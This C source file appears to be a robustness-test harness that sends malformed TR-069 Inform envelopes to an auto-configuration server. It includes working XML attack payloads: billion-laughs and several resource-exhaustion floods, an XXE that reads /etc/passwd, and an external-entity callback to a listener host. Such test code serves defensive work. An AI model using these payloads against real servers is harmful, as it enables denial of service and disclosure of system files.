/* Envelopes that want to be dear to read. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "modes.h"

/* A text that grows. */
struct text {
	char *octets;
	size_t length, room;
};

static void add_octets(struct text *text, const void *octets, size_t length)
{
	if (text->length + length + 1 > text->room) {
		text->room = 2 * (text->length + length + 1);
		text->octets = realloc(text->octets, text->room);
	}
	memcpy(text->octets + text->length, octets, length);
	text->length += length;
	text->octets[text->length] = '\0';
}

static void add(struct text *text, const char *words)
{
	add_octets(text, words, strlen(words));
}

/* Posts it and waits for the answer; frees it. */
static void send_text(const struct place *place, struct text *text)
{
	int fd = wire_dial(place->serving, place->serving_port);
	char framing[64];

	snprintf(framing, sizeof(framing), "Content-Length: %zu\r\n", text->length);
	wire_post(fd, place, framing);
	wire_put(fd, text->octets, text->length);
	free(text->octets);
	wire_drain(fd);
	close(fd);
}

/* An envelope with this in the place of the Inform's parameters. */
static void send_parameters(const struct place *place, const struct text *parameters, size_t count)
{
	char *begin = wire_inform_begin("4 VALUE CHANGE", count);
	struct text text = {0};

	add(&text, begin);
	add_octets(&text, parameters->octets, parameters->length);
	add(&text, wire_inform_end());
	free(begin);
	send_text(place, &text);
}

static void send_prolog(const struct place *place, const char *prolog)
{
	char *inform = wire_inform(place, "4 VALUE CHANGE");
	struct text text = {0};

	add(&text, prolog);
	add(&text, inform);
	free(inform);
	send_text(place, &text);
}

static void nested(const struct place *place)
{
	struct text text = {0};

	for (int i = 0; i < 1000000; i++)
		add(&text, "<a>");
	for (int i = 0; i < 1000000; i++)
		add(&text, "</a>");
	send_parameters(place, &text, 1);
	free(text.octets);
}

static void billion_laughs(const struct place *place)
{
	struct text text = {0};
	char line[256];

	add(&text, "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY l0 \"ha\">");
	for (int i = 1; i < 10; i++) {
		int p = i - 1;

		snprintf(line, sizeof(line),
			 "<!ENTITY l%d \"&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;\">", i, p,
			 p, p, p, p, p, p, p, p, p);
		add(&text, line);
	}
	add(&text, "]>");
	char *inform = wire_inform(place, "4 VALUE CHANGE"), *at = strstr(inform, "Shell");

	add_octets(&text, inform, (size_t)(at - inform));
	add(&text, "&l9;");
	add(&text, at);
	free(inform);
	send_text(place, &text);
}

static void external_file(const struct place *place)
{
	send_prolog(place, "<?xml version=\"1.0\"?><!DOCTYPE e [<!ENTITY x SYSTEM "
			   "\"file:///etc/passwd\">]>");
}

/* Says "fetched" when somebody comes for the entity. */
static void external_http(const struct place *place)
{
	int listener = wire_listen(place->call, place->call_port);
	char prolog[512];

	snprintf(prolog, sizeof(prolog),
		 "<?xml version=\"1.0\"?><!DOCTYPE e SYSTEM \"http://%s:%d/dtd\" [<!ENTITY %% x "
		 "SYSTEM \"http://%s:%d/x\"> %%x;]>",
		 place->call, place->call_port, place->call, place->call_port);
	send_prolog(place, prolog);
	const struct timeval moment = {.tv_usec = 300000};

	setsockopt(listener, SOL_SOCKET, SO_RCVTIMEO, &moment, sizeof(moment));
	if (accept(listener, NULL, NULL) >= 0)
		fprintf(stderr, "fetched\n");
}

static void doctype(const struct place *place)
{
	send_prolog(place, "<!DOCTYPE Envelope>");
}

/* In a value: one octet more than there would be. */
static void spoil(const struct place *place, const char *octets, size_t length)
{
	char *inform = wire_inform(place, "4 VALUE CHANGE");
	char *at = strstr(inform, "Shell");
	struct text text = {0};

	add_octets(&text, inform, (size_t)(at - inform));
	add_octets(&text, octets, length);
	add(&text, at);
	free(inform);
	send_text(place, &text);
}

static void invalid_utf8(const struct place *place)
{
	spoil(place, "\xc0\x80\xff", 3);
}

static void nul_octets(const struct place *place)
{
	spoil(place, "\0\0", 2);
}

static void add_parameters(struct text *text, int count)
{
	char line[256];

	for (int i = 0; i < count; i++) {
		snprintf(line, sizeof(line),
			 "<ParameterValueStruct><Name>InternetGatewayDevice.X.%d.Y</Name><Value "
			 "xsi:type=\"xsd:string\">%d</Value></ParameterValueStruct>", i, i);
		add(text, line);
	}
}

static void million_parameters(const struct place *place)
{
	struct text text = {0};

	add_parameters(&text, 1000000);
	send_parameters(place, &text, 1000000);
	free(text.octets);
}

/* All values of a large device: some MiB, and lawful. */
static void large_and_lawful(const struct place *place)
{
	char *inform = wire_inform(place, "4 VALUE CHANGE"), cookie[256] = "";
	char *list = strstr(inform, "</ParameterList>"), *size = strstr(inform, "ValueStruct[");
	struct text text = {0}, more = {0};
	char count[32];

	add_parameters(&more, 20000);
	snprintf(count, sizeof(count), "ValueStruct[%d]", 20011);
	add_octets(&text, inform, (size_t)(size - inform));
	add(&text, count);
	size = strchr(size, ']') + 1;
	add_octets(&text, size, (size_t)(list - size));
	add_octets(&text, more.octets, more.length);
	add(&text, list);
	int fd = wire_dial(place->serving, place->serving_port);

	wire_post_text(fd, place, NULL, text.octets);
	if (wire_answer(fd, cookie) == 200) {
		wire_say(fd,
			 "POST /serving-hms HTTP/1.1\r\nHost: serving-hms.lab.example:%d\r\n"
			 "Cookie: %s\r\nContent-Length: 0\r\n\r\n",
			 place->serving_port, cookie);
		wire_answer(fd, NULL);
	}
	close(fd);
	free(inform);
	free(text.octets);
	free(more.octets);
}

static void many_attributes(const struct place *place)
{
	struct text text = {0};
	char line[32];

	add(&text, "<a");
	for (int i = 0; i < 500000; i++) {
		snprintf(line, sizeof(line), " a%d='1'", i);
		add(&text, line);
	}
	add(&text, "/>");
	send_parameters(place, &text, 1);
	free(text.octets);
}

static void many_namespaces(const struct place *place)
{
	struct text text = {0};
	char line[64];

	for (int depth = 0; depth < 100; depth++) {
		add(&text, "<a");
		for (int i = 0; i < 50; i++) {
			snprintf(line, sizeof(line), " xmlns:p%d='u%d'", 50 * depth + i, i);
			add(&text, line);
		}
		add(&text, ">");
	}
	for (int i = 0; i < 300000; i++)
		add(&text, "<e:x></e:x>");
	for (int depth = 0; depth < 100; depth++)
		add(&text, "</a>");
	send_parameters(place, &text, 1);
	free(text.octets);
}

static void many_elements(const struct place *place)
{
	struct text text = {0};

	for (int i = 0; i < 3000000; i++)
		add(&text, "<a/>");
	send_parameters(place, &text, 1);
	free(text.octets);
}

/* UTF-16, where tags cannot be counted by their octets. */
static void recoded(const struct place *place)
{
	struct text text = {0}, wide = {0};
	char line[32];

	add(&text, "<a");
	for (int i = 0; i < 300000; i++) {
		snprintf(line, sizeof(line), " a%d='1'", i);
		add(&text, line);
	}
	add(&text, "/>");
	add_octets(&wide, "\xff\xfe", 2);
	for (size_t i = 0; i < text.length; i++)
		add_octets(&wide, (char[]){text.octets[i], 0}, 2);
	free(text.octets);
	send_text(place, &wide);
}

static void no_xml(const struct place *place)
{
	struct text text = {0};

	add(&text, "<e:Envelope>");
	for (int i = 0; i < 1000000; i++)
		add(&text, "<<<&&&");
	send_text(place, &text);
}

const struct mode xml_modes[] = {
	{"nested", nested},
	{"billion-laughs", billion_laughs},
	{"external-file", external_file},
	{"external-http", external_http},
	{"doctype", doctype},
	{"invalid-utf8", invalid_utf8},
	{"nul-octets", nul_octets},
	{"million-parameters", million_parameters},
	{"large-and-lawful", large_and_lawful},
	{"many-attributes", many_attributes},
	{"many-namespaces", many_namespaces},
	{"many-elements", many_elements},
	{"recoded", recoded},
	{"no-xml", no_xml},
	{NULL, NULL},
};
